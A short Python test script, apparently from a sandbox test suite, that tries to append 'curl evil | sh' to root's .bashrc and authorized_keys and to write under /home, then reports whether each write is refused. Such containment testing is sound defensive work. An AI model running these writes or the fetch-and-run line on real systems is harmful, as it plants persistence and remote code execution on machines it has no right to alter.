# Attack: write into users' homes: root's shell profile and SSH keys, /home.
# Expected: refused (homes are inaccessible); `succeeded`.
import errno
import json
import os


def attempt(action):
    try:
        action()
        return "allowed"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def write(path):
    with open(path, "a") as f:
        f.write("curl evil | sh\n")


print(json.dumps({
    "root_bashrc": attempt(lambda: write("/root/.bashrc")),
    "root_authorized_keys": attempt(lambda: write("/root/.ssh/authorized_keys")),
    "home_file": attempt(lambda: write("/home/pyrunner-was-here")),
    "home_mkdir": attempt(lambda: os.mkdir("/home/pyrunner")),
}), flush=True)
